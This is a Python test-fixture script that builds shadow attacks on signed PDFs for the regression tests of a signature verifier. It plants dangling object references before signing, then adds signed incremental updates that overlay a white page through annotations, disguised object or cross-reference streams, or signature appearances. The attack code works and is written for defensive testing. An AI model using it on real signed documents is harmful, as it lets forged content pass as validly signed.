#!/usr/bin/env python3
"""Shadow attacks on signed PDFs, for the regression tests of `tertial verify`.

A shadow attack prepares a document before its first signature so that a
later incremental update, which looks harmless to a validator, changes what
the signed pages show. Each step writes a new file; nothing is changed in
place. Only the standard library, qpdf (to read objects out of the object
streams Tertial writes) and openssl (to sign the attacker's update).

  prepare IN OUT --object N --into annots|contents [--count K]
      Page 1 refers to object N (to N+K-1), which the document does not have, from its
      /Annots or its /Contents (an incremental update, as a document
      prepared before the first signature would carry it).
  fill IN OUT --field NAME --object N --as annotation|objstm|xref|appearance --cert C --key K
      A later signer's update: signs field NAME (a real CMS signature by
      C/K) and defines object N, so that page 1 shows a white page:
        annotation  N is a full-page annotation, reachable from the new
                    signature's appearance (/AP) as well;
        objstm      N is a content stream typed /ObjStm;
        xref        N is a content stream typed /XRef;
        appearance  N is the signature's own appearance stream, which page 1
                    also takes as content.
  stray IN OUT --field NAME --as bad-objstm|hidden-objstm|stray-xref --cert C --key K
      A later signer's update that carries a stream which is not what its
      type says (nothing refers to it): an /ObjStm that does not parse, an
      /ObjStm holding a copy of page 1 that the cross-reference table does
      not place there, an /XRef stream that is no cross-reference section.
"""
import argparse
import json
import os
import re
import subprocess
import sys
import tempfile
import zlib

WHITE_PAGE = b"q 1 1 1 rg -10 -10 1000 1000 re f Q q 0.8 0 0 rg 50 700 300 60 re f Q\n"
CONTENTS_BYTES = 8192


def qpdf(*args):
    r = subprocess.run(["qpdf", *args], capture_output=True)
    if r.returncode not in (0, 3):
        sys.exit("qpdf %s: %s" % (" ".join(args), r.stderr.decode(errors="replace")))
    return r.stdout.decode("latin-1")


def trailer(path):
    return qpdf("--show-object=trailer", path)


def ref(text, key):
    m = re.search(r"/%s (\d+) (\d+) R" % key, text)
    return (int(m.group(1)), int(m.group(2))) if m else None


def first_page(path):
    m = re.search(r"page 1: (\d+) (\d+) R", qpdf("--show-pages", path))
    return int(m.group(1))


def startxref(data):
    at = data.rindex(b"startxref")
    return int(data[at + 9:].split()[0])


def dict_value_span(text, key):
    """The span of key and its value in a dictionary's text (value: name,
    number, reference, array or dictionary), or None."""
    m = re.search(r"%s(?=[\s/<\[(])" % re.escape(key), text)
    if not m:
        return None
    i = m.end()
    while text[i].isspace():
        i += 1
    if text.startswith("<<", i) or text[i] == "[":
        depth, j = 0, i
        while True:
            if text.startswith("<<", j):
                depth, j = depth + 1, j + 2
            elif text.startswith(">>", j):
                depth, j = depth - 1, j + 2
            elif text[j] == "[":
                depth, j = depth + 1, j + 1
            elif text[j] == "]":
                depth, j = depth - 1, j + 1
            else:
                j += 1
            if depth == 0:
                return m.start(), j
    r = re.match(r"\d+ \d+ R|\S+", text[i:])
    return m.start(), i + r.end()


def set_key(text, key, value):
    span = dict_value_span(text, key)
    if span:
        text = text[: span[0]] + text[span[1]:]
    return text.rstrip()[:-2].rstrip() + " %s %s >>" % (key, value)


def obj(num, body):
    return b"%d 0 obj\n" % num + body + b"\nendobj\n"


def stream(num, dict_text, data):
    return obj(num, dict_text.encode() % len(data) + b"\nstream\n" + data + b"\nendstream")


def update(data, objects, trailer_text, size):
    """An incremental update with a cross-reference table: `objects` is a
    list of (number, bytes)."""
    if not data.endswith(b"\n"):
        data += b"\n"
    out, offsets = data, {}
    for num, body in objects:
        offsets[num] = len(out)
        out += body
    xref_at = len(out)
    out += b"xref\n"
    for num in sorted(offsets):
        out += b"%d 1\n%010d 00000 n\r\n" % (num, offsets[num])
    root, info = ref(trailer_text, "Root"), ref(trailer_text, "Info")
    extra = " /Info %d %d R" % info if info else ""
    out += ("trailer\n<< /Size %d /Root %d %d R%s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
            % (size, root[0], root[1], extra, startxref(data), xref_at)).encode()
    return out


def size_of(trailer_text):
    return int(re.search(r"/Size (\d+)", trailer_text).group(1))


def prepare(a):
    data = open(a.input, "rb").read()
    page = first_page(a.input)
    text = qpdf("--show-object=%d" % page, a.input).strip()
    key = "/Annots" if a.into == "annots" else "/Contents"
    span = dict_value_span(text, key)
    old = text[span[0] + len(key): span[1]].strip() if span else ""
    items = old[1:-1].strip() if old.startswith("[") else old
    dangling = " ".join("%d 0 R" % n for n in range(a.object, a.object + a.count))
    text = set_key(text, key, "[ %s %s ]" % (items, dangling))
    t = trailer(a.input)
    open(a.output, "wb").write(update(data, [(page, obj(page, text.encode()))], t, size_of(t)))


def field_objects(path, name):
    form = json.loads(qpdf("--json", "--json-key=acroform", path))["acroform"]["fields"]
    for f in form:
        if f["fullname"] == name:
            return int(f["object"].split()[0]), int(f["annotation"]["object"].split()[0])
    sys.exit("no field " + name)


def signed_update(a, data, objects, ap_extra=""):
    """The later signer's update: field a.field filled with a signature by
    a.cert/a.key, its appearance showing `ap_extra` too, and `objects`."""
    t = trailer(a.input)
    size = max(size_of(t), max([n for n, _ in objects], default=0) + 1)
    sig, ap = size, size + 1
    field, widget = field_objects(a.input, a.field)
    appearance = stream(ap, "<< /Type /XObject /Subtype /Form /BBox [ 0 0 200 50 ] /Length %d >>",
                        b"q 0 0 0.5 rg 0 0 200 50 re f Q\n")
    text = qpdf("--show-object=%d" % field, a.input).strip()
    text = set_key(text, "/V", "%d 0 R" % sig)
    news = [(sig, None)]
    if widget == field:
        text = set_key(text, "/AP", "<< /N %d 0 R%s >>" % (ap, ap_extra))
        news.append((field, obj(field, text.encode())))
    else:
        news.append((field, obj(field, text.encode())))
        w = set_key(qpdf("--show-object=%d" % widget, a.input).strip(), "/AP", "<< /N %d 0 R%s >>" % (ap, ap_extra))
        news.append((widget, obj(widget, w.encode())))
    news.append((ap, appearance))
    placeholder = b"<" + b"0" * (2 * CONTENTS_BYTES) + b">"
    sig_body = (b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
                b"/M (D:20200513090000+02'00') /ByteRange [0 0000000000 0000000000 0000000000] /Contents "
                + placeholder + b" >>")
    news[0] = (sig, obj(sig, sig_body))
    out = update(data, news + objects, t, max(size + 2, max(n for n, _ in objects + news) + 1))
    start = out.index(placeholder, len(data))
    end = start + len(placeholder)
    byte_range = b"[0 %010d %010d %010d]" % (start, end, len(out) - end)
    at = out.index(b"[0 0000000000 0000000000 0000000000]", len(data))
    out = out[:at] + byte_range + out[at + len(byte_range):]
    with tempfile.TemporaryDirectory() as d:
        open(os.path.join(d, "data"), "wb").write(out[:start] + out[end:])
        subprocess.run(["openssl", "cms", "-sign", "-binary", "-cades", "-md", "sha256", "-in",
                        os.path.join(d, "data"), "-signer", a.cert, "-inkey", a.key, "-outform", "DER",
                        "-out", os.path.join(d, "cms")], check=True)
        cms = open(os.path.join(d, "cms"), "rb").read().hex().encode()
    if len(cms) > 2 * CONTENTS_BYTES:
        sys.exit("the CMS does not fit")
    out = out[: start + 1] + cms + out[start + 1 + len(cms):]
    open(a.output, "wb").write(out)


def fill(a):
    data = open(a.input, "rb").read()
    n, extra = a.object, ""
    if a.kind == "annotation":
        t = trailer(a.input)
        look = size_of(t) + 2  # after the signature and its appearance
        objects = [(n, obj(n, b"<< /Type /Annot /Subtype /Square /Rect [ 0 0 1000 1000 ] /F 4 /C [ 1 1 1 ] "
                              b"/IC [ 1 1 1 ] /AP << /N %d 0 R >> >>" % look)),
                   (look, stream(look, "<< /Type /XObject /Subtype /Form /BBox [ 0 0 1000 1000 ] /Length %d >>",
                                 WHITE_PAGE))]
        extra = " /D << /Off %d 0 R >>" % n  # reachable from the new signature's /AP
    elif a.kind == "objstm":
        objects = [(n, stream(n, "<< /Type /ObjStm /N 0 /First 0 /Length %d >>", WHITE_PAGE))]
    elif a.kind == "xref":
        objects = [(n, stream(n, "<< /Type /XRef /Size 1 /W [ 1 1 1 ] /Length %d >>", WHITE_PAGE))]
    else:  # the appearance itself is page 1's new content
        objects = [(n, stream(n, "<< /Type /XObject /Subtype /Form /BBox [ 0 0 1000 1000 ] /Length %d >>",
                              WHITE_PAGE))]
        extra = " /D << /On %d 0 R >>" % n
    signed_update(a, data, objects, extra)


def stray(a):
    data = open(a.input, "rb").read()
    n = size_of(trailer(a.input)) + 10
    if a.kind == "bad-objstm":
        objects = [(n, stream(n, "<< /Type /ObjStm /N 3 /First 5 /Length %d >>", b"not an object stream"))]
    elif a.kind == "hidden-objstm":
        page = first_page(a.input)
        body = qpdf("--show-object=%d" % page, a.input).strip().encode()
        head = b"%d 0 " % page
        packed = zlib.compress(head + body)
        objects = [(n, stream(n, "<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %%d >>" % len(head),
                              packed))]
    else:
        objects = [(n, stream(n, "<< /Type /XRef /Size 1 /W [ 1 1 1 ] /Length %d >>", b"\x01\x00\x00"))]
    signed_update(a, data, objects)


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="step", required=True)
    s = sub.add_parser("prepare")
    s.add_argument("input")
    s.add_argument("output")
    s.add_argument("--object", type=int, required=True)
    s.add_argument("--into", choices=["annots", "contents"], required=True)
    s.add_argument("--count", type=int, default=1, help="refer to objects N to N+COUNT-1")
    for name, kinds in (("fill", ["annotation", "objstm", "xref", "appearance"]),
                        ("stray", ["bad-objstm", "hidden-objstm", "stray-xref"])):
        s = sub.add_parser(name)
        s.add_argument("input")
        s.add_argument("output")
        s.add_argument("--field", required=True)
        s.add_argument("--as", dest="kind", choices=kinds, required=True)
        s.add_argument("--cert", required=True)
        s.add_argument("--key", required=True)
        if name == "fill":
            s.add_argument("--object", type=int, required=True)
    a = p.parse_args()
    {"prepare": prepare, "fill": fill, "stray": stray}[a.step](a)


if __name__ == "__main__":
    main()
